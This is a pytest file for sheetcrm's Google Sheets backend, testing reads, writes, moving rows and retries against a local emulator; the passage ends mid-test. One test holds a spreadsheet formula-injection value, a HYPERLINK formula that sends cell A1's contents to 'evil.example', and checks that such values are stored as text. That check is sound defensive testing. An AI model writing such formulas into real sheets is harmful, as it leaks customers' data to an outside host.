"""The Google Sheets backend, driving the real gspread + google-auth code.

Everything goes over HTTP to ``SheetsEmulator`` (``tests.support.emulators.sheets``)
on 127.0.0.1: OAuth (a JWT signed with a throwaway RSA key made once per session,
checked by the emulator), the Sheets API v4 calls, and any IAM lookup google-auth
makes in the background. Name lookups and connections to any other host are refused and recorded,
and a test that made one fails. The pacer's clock (on which retries wait too) is
injected, so nothing waits.
"""

from __future__ import annotations

import csv
import io
import ipaddress
import json
import re
import socket
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from email.utils import formatdate
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from sheetcrm.errors import BackendError, ConfigError
from sheetcrm.http import HttpOptions, Pacer, RetryPolicy
from sheetcrm.model import CellUpdate
from sheetcrm.table import gsheets, gsheets_transport
from sheetcrm.table.gsheets import GoogleSheetsTable, SheetPlace
from tests.support.clock import VirtualClock
from tests.support.emulators.sheets import SheetsEmulator, Typed
from tests.support.sample import DAY0, copy_sample, shipped_sample_csv

ROOT = Path(__file__).resolve().parents[1]
SHEET = "고객 목록"
KEY = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms"  # the shape of a real key
URL = f"https://docs.google.com/spreadsheets/d/{KEY}/edit#gid=1001"
HEADER = ["고객명", "이메일", "연락처", "메모", "상태 태그"]


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="session")
def rsa_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


@dataclass
class Account:
    email: str
    info: dict[str, Any]
    path: Path


def make_pacer(clock: VirtualClock, limit: int = 55, period: float = 60.0) -> Pacer:
    """The adapter's pacer (55 requests a minute by default) on the virtual clock."""
    return Pacer(limit, period, clock=clock.clock)


def _loopback(host: object) -> bool:
    if host in ("localhost", b"localhost"):
        return True
    try:
        return ipaddress.ip_address(str(host).split("%")[0]).is_loopback
    except ValueError:
        return False


@pytest.fixture(scope="module")
def escapes() -> Iterator[list[str]]:
    """While these tests run, no name lookup or connection may leave the machine: each
    attempt is refused and recorded (threads swallow errors; the record stays)."""
    attempts: list[str] = []
    real_lookup, real_connect = socket.getaddrinfo, socket.socket.connect

    def lookup(host: Any, *args: Any, **kwargs: Any) -> Any:
        if not _loopback(host):
            attempts.append(f"name lookup of {host}")
            raise socket.gaierror(socket.EAI_NONAME, "off-machine lookups are refused in tests")
        return real_lookup(host, *args, **kwargs)

    def connect(sock: socket.socket, address: Any) -> None:
        if sock.family in (socket.AF_INET, socket.AF_INET6) and not _loopback(address[0]):
            attempts.append(f"connection to {address[0]}")
            raise ConnectionRefusedError("off-machine connections are refused in tests")
        real_connect(sock, address)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(socket, "getaddrinfo", lookup)
        patch.setattr(socket.socket, "connect", connect)
        yield attempts


@pytest.fixture(autouse=True)
def loopback_only(escapes: list[str]) -> Iterator[None]:
    """Every test fails if anything it started tried to reach another host."""
    start = len(escapes)
    yield
    assert escapes[start:] == []


def settle_background(emu: SheetsEmulator, before: set[threading.Thread],
                      timeout: float = 5.0) -> None:
    """Wait for threads started since ``before`` (a library's background lookups), other
    than the emulator's own connection handlers, to finish."""
    deadline = time.monotonic() + timeout
    while True:
        pending = [t for t in threading.enumerate()
                   if t not in before and t not in emu.serving and t.is_alive()]
        if not pending:
            return
        assert time.monotonic() < deadline, f"still running: {pending}"
        for thread in pending:
            thread.join(timeout=0.05)


@pytest.fixture
def emulator() -> Iterator[SheetsEmulator]:
    with SheetsEmulator() as emu:
        yield emu


@pytest.fixture
def account(emulator: SheetsEmulator, rsa_key: rsa.RSAPrivateKey, tmp_path: Path) -> Account:
    """A service account known to the emulator; its key file's token_uri points there."""
    email = f"sheetcrm-{uuid.uuid4().hex[:8]}@crm-test.iam.gserviceaccount.com"
    emulator.add_account(email, rsa_key.public_key())
    pem = rsa_key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                serialization.NoEncryption()).decode()
    info = {"type": "service_account", "project_id": "crm-test", "private_key_id": "k1",
            "private_key": pem, "client_email": email, "client_id": "1",
            "token_uri": emulator.token_uri}
    path = tmp_path / "service-account.json"
    path.write_text(json.dumps(info), encoding="utf-8")
    return Account(email, info, path)


@pytest.fixture
def clock() -> VirtualClock:
    return VirtualClock()


@pytest.fixture(autouse=True)
def fast_retries(monkeypatch: pytest.MonkeyPatch, clock: VirtualClock) -> Iterator[None]:
    """Tables built from a config (the CLI path) retry without really sleeping."""
    monkeypatch.setattr(gsheets_transport, "default_clock", clock.clock)
    yield


@pytest.fixture
def book(emulator: SheetsEmulator) -> SheetsEmulator:
    """A spreadsheet with a first sheet '안내' and a customer sheet '고객 목록'."""
    emulator.add_spreadsheet(KEY)
    emulator.add_sheet(KEY, "안내")
    emulator.add_sheet(KEY, SHEET)
    emulator.put(KEY, "안내", [["이 스프레드시트는 sheetcrm이 관리합니다"]])
    emulator.put(KEY, SHEET, [
        HEADER,
        ["김수현", "soohyun@example.com", "'010-1111-2222", "VIP", ""],
        ["이지훈", "jihoon@example.com", "'01098765432", "", "결제 대기"],
        ["박채린", "chaerin@example.com", "'010-3333-4444", "", ""],
    ])
    return emulator


@pytest.fixture
def make_table(emulator: SheetsEmulator, account: Account, clock: VirtualClock
               ) -> Callable[..., GoogleSheetsTable]:
    def make(**kwargs: Any) -> GoogleSheetsTable:
        options: dict[str, Any] = {
            "worksheet": SHEET, "endpoint": emulator.url,
            "pacer": make_pacer(clock),
            "retry": RetryPolicy(jitter=lambda: 0.5),
            "timeout": (2.0, 5.0), "credentials_path": str(account.path),
        }
        options.update(kwargs)
        place = SheetPlace(options.pop("worksheet"), options.pop("gid", None),
                           options.pop("header_row", 1))
        http = HttpOptions(endpoint=options.pop("endpoint"), timeout=options.pop("timeout"),
                           pacer=options.pop("pacer"), retry=options.pop("retry"))
        return GoogleSheetsTable(KEY, account.info, place=place, http=http, **options)

    return make


def column(emu: SheetsEmulator, name: str, title: str = SHEET) -> dict[str, str]:
    """{email: cell of column ``name``} as the sheet shows it now."""
    rows = emu.display(KEY, title)
    header = rows[0]
    key, index = header.index("이메일"), header.index(name)
    return {row[key]: row[index] for row in rows[1:] if len(row) > key and row[key]}


# --------------------------------------------------------------------------- read


def test_read_gives_displayed_text_with_leading_zeros_and_korean_dates(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    sheet = book.sheet(KEY, SHEET)
    sheet.set(1, 5, Typed(7.0, "000"))  # a number shown as 007
    sheet.set(2, 5, Typed(45809.0, "DATE"))  # 2025-06-01
    sheet.set(3, 5, Typed(45809.5 + 64 / 86400 * 60, "DATE_TIME"))
    sheet.set(1, 6, Typed(True))
    sheet.set(2, 6, Typed(149000.0, "#,##0"))
    book.put(KEY, SHEET, [["쿠폰", "확인"]], start="F1")
    snap = make_table().read()
    assert snap.header == HEADER + ["쿠폰", "확인"]
    assert snap.rows[0] == ["김수현", "soohyun@example.com", "010-1111-2222", "VIP", "", "007",
                            "TRUE"]
    assert snap.rows[1][2] == "01098765432"
    assert snap.rows[1][5:] == ["2025. 6. 1", "149,000"]
    assert snap.rows[2][5] == "2025. 6. 1 오후 1:04:00"
    assert "고객 목록" in snap.source and KEY in snap.source


def test_read_honours_header_row_and_skips_blank_rows(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    emulator.add_spreadsheet(KEY)
    emulator.add_sheet(KEY, SHEET)
    emulator.put(KEY, SHEET, [
        ["11월 고객 명단"], [],
        [" 고객명 ", "이메일", "상태 태그"],
        ["김수현", "a@example.com"],  # ragged: shorter than the header
        [],  # a blank middle row
        ["", "  "],  # blank cells only
        ["이지훈", "b@example.com", "결제 대기"],
    ])
    table = make_table(header_row=3)
    snap = table.read()
    assert snap.header == ["고객명", "이메일", "상태 태그"]
    assert snap.rows == [["김수현", "a@example.com"], ["이지훈", "b@example.com", "결제 대기"]]
    report = table.write("이메일", [CellUpdate("b@example.com", "상태 태그", "VIP"),
                                   CellUpdate("a@example.com", "오류", "x")])
    assert report.columns_added == ["오류"]
    shown = emulator.display(KEY, SHEET)
    assert shown[2][:4] == [" 고객명 ", "이메일", "상태 태그", "오류"]
    assert shown[3][3] == "x" and shown[6][2] == "VIP"
    assert shown[0][0] == "11월 고객 명단"


def test_first_worksheet_by_default_and_gid_from_url(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    assert make_table(worksheet=None).read().header == ["이 스프레드시트는 sheetcrm이 관리합니다"]
    key, gid = gsheets.parse_spreadsheet(URL)
    assert (key, gid) == (KEY, 1001)
    assert make_table(worksheet=None, gid=gid).read().header == HEADER


# --------------------------------------------------------------------------- write


def test_write_is_one_raw_batch_update_of_only_the_given_cells_then_one_check(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    table = make_table()
    table.read()
    book.clear_log()
    report = table.write("이메일", [
        CellUpdate("soohyun@example.com", "상태 태그", "결제 대기, 결제 유도"),
        CellUpdate("chaerin@example.com", "상태 태그", ""),
        CellUpdate("chaerin@example.com", "최근 발송", "2026-11-23 10:00 payment_reminder"),
    ])
    assert book.kinds() == ["values.batchGet", "values.batchUpdate", "values.batchGet"]
    assert report.requests == 3 and not report.repaired_keys
    assert (report.cells_written, report.rows_written) == (3, 2)
    assert report.columns_added == ["최근 발송"]
    body = book.writes()[0].json()
    assert body["valueInputOption"] == "RAW"
    shown = book.display(KEY, SHEET)
    assert shown[0] == HEADER + ["최근 발송"]
    assert column(book, "상태 태그") == {"soohyun@example.com": "결제 대기, 결제 유도",
                                       "jihoon@example.com": "결제 대기",
                                       "chaerin@example.com": ""}
    assert column(book, "메모")["soohyun@example.com"] == "VIP"
    assert column(book, "연락처")["jihoon@example.com"] == "01098765432"


def test_formula_looking_values_are_stored_as_text(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    evil = '=HYPERLINK("https://evil.example/?q="&A1,"확인")'
    table = make_table()
    table.read()
    table.write("이메일", [CellUpdate("soohyun@example.com", "상태 태그", evil),
                          CellUpdate("jihoon@example.com", "상태 태그", "=IMPORTXML(A1)"),
                          CellUpdate("chaerin@example.com", "상태 태그", "007")])
    assert book.cell(KEY, SHEET, "E2") == evil  # a plain string: text, not a formula
    assert book.cell(KEY, SHEET, "E3") == "=IMPORTXML(A1)"
    assert book.cell(KEY, SHEET, "E4") == "007"
    assert column(book, "상태 태그")["soohyun@example.com"] == evil
    # The emulator does tell the two apart: typed in (USER_ENTERED) it is a formula.
    book.put(KEY, SHEET, [['=HYPERLINK("https://a.example","확인")']], start="F2")
    assert isinstance(book.cell(KEY, SHEET, "F2"), Typed)


def test_nothing_to_write_makes_no_request(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    table = make_table()
    table.read()
    before = book.count()
    report = table.write("이메일", [])
    assert report.requests == 0 and book.count() == before and not book.writes()


def test_missing_columns_grow_the_grid_with_one_counted_request(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    emulator.add_spreadsheet(KEY)
    emulator.add_sheet(KEY, SHEET, rows=10, cols=3)
    emulator.put(KEY, SHEET, [["고객명", "이메일", "상태 태그"], ["김수현", "a@example.com"]])
    table = make_table()
    table.read()
    emulator.clear_log()
    report = table.write("이메일", [CellUpdate("a@example.com", "자동화 흐름", "payment 1/3"),
                                   CellUpdate("a@example.com", "오류", "")])
    assert emulator.kinds() == ["values.batchGet", "spreadsheets.batchUpdate",
                                "values.batchUpdate", "values.batchGet"]
    assert report.requests == 4
    assert emulator.sheet(KEY, SHEET).col_count == 5
    shown = emulator.display(KEY, SHEET)
    assert shown[0] == ["고객명", "이메일", "상태 태그", "자동화 흐름", "오류"]
    assert shown[1][3] == "payment 1/3"


def test_new_columns_go_past_unnamed_data_columns(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    book.put(KEY, SHEET, [["손으로 적은 메모"]], start="G3")  # data under no header
    table = make_table()
    table.read()
    table.write("이메일", [CellUpdate("jihoon@example.com", "오류", "x")])
    shown = book.display(KEY, SHEET)
    assert shown[0][7] == "오류" and shown[2][6] == "손으로 적은 메모" and shown[2][7] == "x"


def test_large_bodies_are_split_and_gaps_are_skipped_not_cleared(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    emulator.add_spreadsheet(KEY)
    emulator.add_sheet(KEY, SHEET, rows=500, cols=4)
    rows = [["이메일", "메모", "상태 태그"]]
    rows += [[f"u{i}@example.com", f"memo {i}", f"old {i}"] for i in range(400)]
    emulator.put(KEY, SHEET, rows, input="RAW")
    table = make_table(max_request_bytes=4000)
    table.read()
    updates = [CellUpdate(f"u{i}@example.com", "상태 태그", f"새 태그 {i}")
               for i in range(400) if i % 3 != 1]  # every third row unchanged
    emulator.clear_log()
    report = table.write("이메일", updates)
    writes = emulator.writes()
    assert len(writes) > 1 and report.requests == 2 + len(writes)
    assert all(len(json.dumps(w.json(), ensure_ascii=False, separators=(",", ":")).encode())
               <= 4000 for w in writes)
    tags = column(emulator, "상태 태그")
    for i in range(400):
        assert tags[f"u{i}@example.com"] == (f"old {i}" if i % 3 == 1 else f"새 태그 {i}")
    assert column(emulator, "메모")["u7@example.com"] == "memo 7"


def test_a_body_refused_as_too_large_is_resent_in_halves(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    emulator.add_spreadsheet(KEY)
    emulator.add_sheet(KEY, SHEET, rows=300, cols=3)
    emulator.put(KEY, SHEET, [["이메일", "상태 태그"]]
                 + [[f"u{i}@example.com"] for i in range(200)])
    emulator.max_request_bytes = 5000  # the ~5.5 kB body is refused
    table = make_table(max_request_bytes=20_000)
    table.read()
    emulator.clear_log()
    report = table.write("이메일", [CellUpdate(f"u{i}@example.com", "상태 태그",
                                              f"태그 {i:03d} 가나다라") for i in range(200)])
    statuses = [e.status for e in emulator.requests if e.kind == "values.batchUpdate"]
    assert statuses == [400, 400, 200, 200]  # limits of 20 kB, 10 kB, then 5 kB
    assert report.cells_written == 200
    assert column(emulator, "상태 태그")["u199@example.com"] == "태그 199 가나다라"


# --------------------------------------------------------------------------- rows moving


def read_then(book: SheetsEmulator, table: GoogleSheetsTable,
              change: Callable[[], None], updates: list[CellUpdate]) -> Any:
    table.read()
    change()
    return table.write("이메일", updates)


TAGS = [CellUpdate("soohyun@example.com", "상태 태그", "S"),
        CellUpdate("jihoon@example.com", "상태 태그", "J"),
        CellUpdate("chaerin@example.com", "상태 태그", "C")]


def test_sorting_between_read_and_write_never_misdirects(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    report = read_then(book, make_table(),
                       lambda: book.sort_rows(KEY, SHEET, 1), TAGS)
    assert [row[1] for row in book.display(KEY, SHEET)[1:]] == [
        "chaerin@example.com", "jihoon@example.com", "soohyun@example.com"]
    assert column(book, "상태 태그") == {"soohyun@example.com": "S", "jihoon@example.com": "J",
                                       "chaerin@example.com": "C"}
    assert report.requests == 3 and not report.missing_keys and not report.repaired_keys


def test_inserted_rows_are_left_alone(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    report = read_then(book, make_table(), lambda: book.insert_rows(
        KEY, SHEET, 2, [["새 고객", "new@example.com", "", "", "그대로"]]), TAGS)
    tags = column(book, "상태 태그")
    assert tags["new@example.com"] == "그대로"
    assert (tags["soohyun@example.com"], tags["chaerin@example.com"]) == ("S", "C")
    assert report.cells_written == 3


def test_deleted_rows_are_reported_and_written_nowhere(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    report = read_then(book, make_table(), lambda: book.delete_rows(KEY, SHEET, 3), TAGS)
    assert report.missing_keys == ["jihoon@example.com"]
    assert column(book, "상태 태그") == {"soohyun@example.com": "S", "chaerin@example.com": "C"}
    assert "J" not in [cell for row in book.display(KEY, SHEET) for cell in row]


def test_a_key_now_on_two_rows_is_not_written(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    report = read_then(book, make_table(), lambda: book.insert_rows(
        KEY, SHEET, 5, [["박채린(복사)", "chaerin@example.com", "", "", "사본"]]), TAGS)
    assert report.ambiguous_keys == ["chaerin@example.com"]
    shown = book.display(KEY, SHEET)
    assert [row[4] for row in shown[1:]] == ["S", "J", "", "사본"]


def test_edits_to_other_cells_during_the_run_are_kept(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    def edit() -> None:
        book.put(KEY, SHEET, [["전화 요망"]], start="D3")
        book.put(KEY, SHEET, [["'010-9999-0000"]], start="C4")

    read_then(book, make_table(), edit, TAGS)
    assert column(book, "메모")["jihoon@example.com"] == "전화 요망"
    assert column(book, "연락처")["chaerin@example.com"] == "010-9999-0000"
    assert column(book, "상태 태그")["jihoon@example.com"] == "J"


def test_a_column_inserted_before_the_key_costs_one_more_read(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    def insert() -> None:
        book.insert_columns(KEY, SHEET, 0)
        book.put(KEY, SHEET, [["번호"], ["1"], ["2"], ["3"]], start="A1")

    report = read_then(book, make_table(), insert, TAGS)
    assert report.requests == 4
    assert column(book, "상태 태그") == {"soohyun@example.com": "S", "jihoon@example.com": "J",
                                       "chaerin@example.com": "C"}
    assert book.display(KEY, SHEET)[1][0] == "1"


def test_a_worksheet_renamed_under_a_daemon_is_found_again_or_reported(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    first = make_table(worksheet=None)  # the first sheet, whatever its title
    first.read()
    book.sheet(KEY, "안내").title = "읽어 주세요"
    assert first.read().header == ["이 스프레드시트는 sheetcrm이 관리합니다"]
    named = make_table()
    named.read()
    book.sheet(KEY, SHEET).title = "고객"
    with pytest.raises(BackendError) as err:
        named.read()
    assert "'고객 목록'" in str(err.value) and "'읽어 주세요', '고객'" in str(err.value)


# --------------------------------------------------------------------------- rows moving in flight
#
# The worst moment: after the key re-read, before the batchUpdate lands (hook "before"
# on values.batchUpdate), or after it, before the check read (hook "after").

CROWD = [f"c{i}@example.com" for i in range(8)]
FLOW = "자동화 흐름"  # not in the header yet: appended by the write


def crowd(emu: SheetsEmulator, *, rows: int = 1000) -> None:
    """Eight customers; every other one already has a tag; a grid of ``rows`` rows."""
    emu.add_spreadsheet(KEY)
    emu.add_sheet(KEY, SHEET, rows=rows, cols=8)  # room for the appended column
    emu.put(KEY, SHEET, [HEADER] + [
        [f"고객{i}", email, "", f"메모{i}", f"old{i}" if i % 2 else ""]
        for i, email in enumerate(CROWD)], grow=False)


def crowd_updates(keys: list[str] = CROWD) -> list[CellUpdate]:
    return [update for i, key in enumerate(keys)
            for update in (CellUpdate(key, "상태 태그", f"tag{i}"),
                           CellUpdate(key, FLOW, f"flow{i}"))]


def owned_by_row(emu: SheetsEmulator) -> list[tuple[str, str, str, str]]:
    """(key, 메모, 상태 태그, 자동화 흐름) of every non-blank row below the header."""
    rows = emu.display(KEY, SHEET)
    header = rows[0]
    at = {name: header.index(name) for name in ("이메일", "메모", "상태 태그", FLOW)
          if name in header}

    def cell(row: list[str], name: str) -> str:
        return row[at[name]] if name in at and at[name] < len(row) else ""

    return [(cell(r, "이메일"), cell(r, "메모"), cell(r, "상태 태그"), cell(r, FLOW))
            for r in rows[1:] if any(r)]


def assert_every_row_holds_its_own(emu: SheetsEmulator, written: list[str],
                                   others: dict[str, tuple[str, str]] | None = None) -> None:
    """Written customers hold exactly their own updates; every other row holds what it
    held before (``others``: key -> (tag, flow); blank for rows not listed)."""
    others = others or {}
    for key, memo, tag, flow in owned_by_row(emu):
        if key in written:
            i = CROWD.index(key)
            assert (memo, tag, flow) == (f"메모{i}", f"tag{i}", f"flow{i}"), key
        else:
            assert (tag, flow) == others.get(key, ("", "")), (key, tag, flow)


def reverse_sort(emu: SheetsEmulator) -> None:
    emu.sort_rows(KEY, SHEET, 1, descending=True)


def test_rows_sorted_between_the_key_reread_and_the_write_are_repaired(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    crowd(emulator)
    table = make_table()
    table.read()
    emulator.clear_log()
    emulator.on("values.batchUpdate", reverse_sort)
    report = table.write("이메일", crowd_updates())
    assert_every_row_holds_its_own(emulator, CROWD)
    assert [row[0] for row in owned_by_row(emulator)] == sorted(CROWD, reverse=True)
    assert sorted(report.repaired_keys) == sorted(CROWD)
    assert report.missing_keys == report.ambiguous_keys == []
    assert report.columns_added == [FLOW] and report.cells_written == 16
    # re-read, write, check, repair, check: a constant count, whatever the rows
    assert emulator.kinds() == ["values.batchGet", "values.batchUpdate", "values.batchGet",
                                "values.batchUpdate", "values.batchGet"]
    assert report.requests == 5


def test_a_row_inserted_above_during_the_write_gets_back_to_blank(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    crowd(emulator)
    table = make_table()
    table.read()
    emulator.on("values.batchUpdate", lambda emu: emu.insert_rows(
        KEY, SHEET, 2, [["새 고객", "new@example.com", "", "새 메모"]]))
    report = table.write("이메일", crowd_updates())
    assert_every_row_holds_its_own(emulator, CROWD)
    assert owned_by_row(emulator)[0] == ("new@example.com", "새 메모", "", "")
    assert "new@example.com" in report.repaired_keys and not report.missing_keys
    assert set(CROWD) <= set(report.repaired_keys)  # every row below shifted by one


def test_a_row_deleted_during_the_write_is_reported_missing_and_its_cells_land_nowhere(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    crowd(emulator)
    table = make_table()
    table.read()
    emulator.on("values.batchUpdate", lambda emu: emu.delete_rows(KEY, SHEET, 4))  # c2
    report = table.write("이메일", crowd_updates())
    survivors = [key for key in CROWD if key != CROWD[2]]
    assert_every_row_holds_its_own(emulator, survivors)
    assert [row[0] for row in owned_by_row(emulator)] == survivors
    assert report.missing_keys == [CROWD[2]]
    assert CROWD[2] not in report.repaired_keys
    shown = [cell for row in emulator.display(KEY, SHEET) for cell in row]
    assert "tag2" not in shown and "flow2" not in shown


def test_a_row_copied_during_the_write_is_reported_ambiguous_and_keeps_its_own_values(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    crowd(emulator)
    table = make_table()
    table.read()
    emulator.on("values.batchUpdate", lambda emu: emu.insert_rows(
        KEY, SHEET, 2, [["고객5 사본", CROWD[5], "", "사본", "old5"]]))
    report = table.write("이메일", crowd_updates())
    assert report.ambiguous_keys == [CROWD[5]] and report.missing_keys == []
    rows = owned_by_row(emulator)
    assert rows[0] == (CROWD[5], "사본", "old5", "")  # the copy got tag0: given back
    assert rows[6] == (CROWD[5], "메모5", "old5", "")  # got tag6, given back; c5 not written
    assert_every_row_holds_its_own(emulator, [k for k in CROWD if k != CROWD[5]],
                                   {CROWD[5]: ("old5", "")})


@pytest.mark.parametrize("change", ["sort", "insert", "delete"])
def test_rows_moving_after_the_write_and_before_the_check_need_no_repair(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable],
        change: str) -> None:
    crowd(emulator)
    table = make_table()
    table.read()
    emulator.on("values.batchUpdate", {
        "sort": reverse_sort,
        "insert": lambda emu: emu.insert_rows(KEY, SHEET, 3, [["새 고객", "new@example.com"]]),
        "delete": lambda emu: emu.delete_rows(KEY, SHEET, 4),
    }[change], when="after")
    report = table.write("이메일", crowd_updates())
    gone = [CROWD[2]] if change == "delete" else []
    assert_every_row_holds_its_own(emulator, [k for k in CROWD if k not in gone])
    assert report.requests == 3 and report.repaired_keys == []
    assert report.missing_keys == gone  # written, then deleted: not in the sheet


def test_rows_moving_both_before_and_after_the_write_are_still_repaired(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    crowd(emulator)
    table = make_table()
    table.read()
    emulator.on("values.batchUpdate", lambda emu: emu.delete_rows(KEY, SHEET, 2))  # c0
    emulator.on("values.batchUpdate", lambda emu: (
        emu.insert_rows(KEY, SHEET, 5, [["새 고객", "new@example.com", "", "", "수기 태그"]]),
        reverse_sort(emu)), when="after")
    report = table.write("이메일", crowd_updates())
    assert_every_row_holds_its_own(emulator, CROWD[1:], {"new@example.com": ("수기 태그", "")})
    assert report.missing_keys == [CROWD[0]]
    assert sorted(report.repaired_keys) == sorted(CROWD[1:])


def test_the_operators_own_edits_to_other_cells_during_the_write_are_kept(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    crowd(emulator)
    table = make_table()
    table.read()

    def edit_and_sort(emu: SheetsEmulator) -> None:
        emu.put(KEY, SHEET, [["전화 요망"]], start="D3")  # c1's memo
        reverse_sort(emu)

    emulator.on("values.batchUpdate", edit_and_sort)
    table.write("이메일", crowd_updates()[:8])  # c0..c3 only
    rows = {row[0]: row for row in owned_by_row(emulator)}
    assert rows[CROWD[1]][1:] == ("전화 요망", "tag1", "flow1")
    for i in range(4, 8):  # not written: as they were, wherever they went
        assert rows[CROWD[i]][1:] == (f"메모{i}", f"old{i}" if i % 2 else "", "")


def test_with_no_row_moved_the_check_repairs_nothing(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    """Nothing moved, so every cell landed: a cell that reads back otherwise (here the
    operator typed over it right after the write) is not a misdirected one."""
    crowd(emulator)
    table = make_table()
    table.read()
    emulator.on("values.batchUpdate", lambda emu: emu.put(KEY, SHEET, [["수기"]], start="E3"),
                when="after")
    report = table.write("이메일", crowd_updates())
    assert report.requests == 3 and report.repaired_keys == []
    assert owned_by_row(emulator)[1] == (CROWD[1], "메모1", "수기", "flow1")


def test_rows_that_keep_moving_end_in_a_plain_error_after_bounded_repairs(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    crowd(emulator)
    table = make_table()
    table.read()

    def rotate(emu: SheetsEmulator) -> None:  # the last row moves to the top, every time
        rows = emu.sheet(KEY, SHEET).rows
        rows[1:] = rows[-1:] + rows[1:-1]

    emulator.on("values.batchUpdate", rotate, times=None)
    emulator.clear_log()
    with pytest.raises(BackendError) as err:
        table.write("이메일", crowd_updates())
    message = str(err.value)
    assert "rows kept moving" in message and f"after {gsheets.MAX_REPAIRS} repairs" in message
    assert "run sync again" in message and "Traceback" not in message
    assert emulator.count("values.batchUpdate") == 1 + gsheets.MAX_REPAIRS
    assert emulator.count("values.batchGet") == 2 + gsheets.MAX_REPAIRS


def test_a_write_past_a_grid_that_shrank_meanwhile_is_planned_again(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    crowd(emulator, rows=len(CROWD) + 1)  # an imported sheet: the grid ends at the data
    table = make_table()
    table.read()
    emulator.on("values.batchUpdate", lambda emu: emu.delete_rows(KEY, SHEET, 3))  # c1
    report = table.write("이메일", crowd_updates())
    statuses = [e.status for e in emulator.requests if e.kind == "values.batchUpdate"]
    assert statuses == [400, 200]  # refused whole: row 9 is past the grid now
    assert_every_row_holds_its_own(emulator, [k for k in CROWD if k != CROWD[1]])
    assert report.missing_keys == [CROWD[1]] and report.repaired_keys == []


def test_keys_missing_before_the_write_stay_reported_when_nothing_lands(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    table = make_table()
    table.read()
    book.clear_log()
    report = table.write("이메일", [CellUpdate("gone@example.com", "상태 태그", "x"),
                                   CellUpdate("  ", "상태 태그", "y")])
    assert report.missing_keys == ["gone@example.com", "  "]
    assert book.kinds() == ["values.batchGet"] and report.cells_written == 0


# --------------------------------------------------------------------------- request counts


def test_daemon_tick_reuses_metadata_and_an_idle_run_writes_nothing(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    table = make_table()
    table.read()
    table.write("이메일", TAGS)
    assert book.count() == 5 and table.requests == 5
    book.clear_log()
    table.read()  # the next tick: metadata is cached
    report = table.write("이메일", [CellUpdate("jihoon@example.com", "상태 태그", "J2")])
    assert book.kinds() == ["values.get", "values.batchGet", "values.batchUpdate",
                            "values.batchGet"]
    assert report.requests == 3 and table.requests == 9
    book.clear_log()
    table.read()
    table.write("이메일", [])
    assert book.kinds() == ["values.get"]


# --------------------------------------------------------------------------- faults


def test_a_429_storm_is_ridden_out_with_bounded_jittered_backoff(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable],
        clock: VirtualClock) -> None:
    book.fail("values.get", 429, times=5)
    table = make_table()
    assert table.read().header == HEADER
    assert book.count("values.get") == 6
    assert clock.sleeps == [0.75, 1.5, 3.0, 6.0, 12.0]  # jitter fixed at the middle
    assert table.request_counts["values.get"] == 6


def test_a_retry_after_date_is_waited_out(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable],
        clock: VirtualClock) -> None:
    when = formatdate(time.time() + 20, usegmt=True)
    book.fail("values.get", 429, headers={"Retry-After": when})
    assert make_table().read().header == HEADER
    [wait] = clock.sleeps
    assert 18.0 <= wait <= 20.0  # not the 0.75 s backoff


def test_persistent_429_gives_up_with_a_clear_error(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable],
        clock: VirtualClock) -> None:
    book.fail("values.get", 429, times=None)
    with pytest.raises(BackendError) as err:
        make_table(retry=RetryPolicy(attempts=4, jitter=lambda: 1.0)).read()
    assert "quota exceeded (HTTP 429)" in str(err.value) and "after 4 attempts" in str(err.value)
    assert book.count("values.get") == 4 and clock.sleeps == [1.0, 2.0, 4.0]


def test_5xx_with_html_bodies_are_retried(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    table = make_table()
    table.read()
    book.fail("values.batchUpdate", 502, times=2, html=True)
    book.fail("values.batchGet", 500, times=1)
